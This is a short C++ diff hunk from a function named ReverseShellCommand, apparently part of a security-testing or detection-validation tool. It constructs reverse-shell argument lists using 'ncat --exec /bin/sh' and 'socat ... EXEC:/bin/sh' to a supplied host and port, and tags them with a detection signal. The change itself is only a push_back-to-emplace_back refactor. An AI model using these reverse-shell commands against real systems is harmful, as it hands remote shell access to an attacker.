@@ -158,7 +158,7 @@ Result<StepCommand> ReverseShellCommand(std::string_view v, const CommandContext
   if (v == "ncat") {
     c.argv = {"ncat", "--exec", "/bin/sh", host, port};
     if (ctx.package_installed_by_us) {
-      c.signals.push_back(std::string(sig::kPostStartBinaryExecution));
+      c.signals.emplace_back(sig::kPostStartBinaryExecution);
     }
   } else if (v == "socat") {
     c.argv = {"socat", HostForSocat(host) + ":" + port, "EXEC:/bin/sh"};
